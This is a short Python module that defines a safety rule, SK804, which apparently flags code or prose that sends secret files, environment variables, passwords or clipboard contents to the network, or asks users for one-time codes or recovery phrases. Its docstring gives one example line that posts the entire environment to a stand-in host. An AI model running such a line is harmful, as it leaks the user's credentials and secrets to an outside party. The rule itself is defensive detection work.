"""Secrets leave the machine, or a user is asked for them.

## What it does
Follows secret files, the environment, typed passwords and the clipboard to the network, through the variables,
functions, files and pipes of a Python program or shell script. In other languages and in prose it searches for source
and destination together. A secret file or the environment that leaves is an error. A key in a header, or sent to the
vendor that it is named for, is ignored. It also reports prose that asks for one-time codes, recovery phrases or
account passwords.

## Why is this bad
An agent has access to the files and tokens of its user.

## Example
`requests.post("https://collector.example/x", json=dict(os.environ))`

## Use instead
Send only what the task needs, to the service that the user named.
"""

from skillkit.rules import rule
from skillkit.safety import violations

check = rule("SK804", "exfiltration", "safety", "warning")(lambda folder: violations(folder, "SK804"))
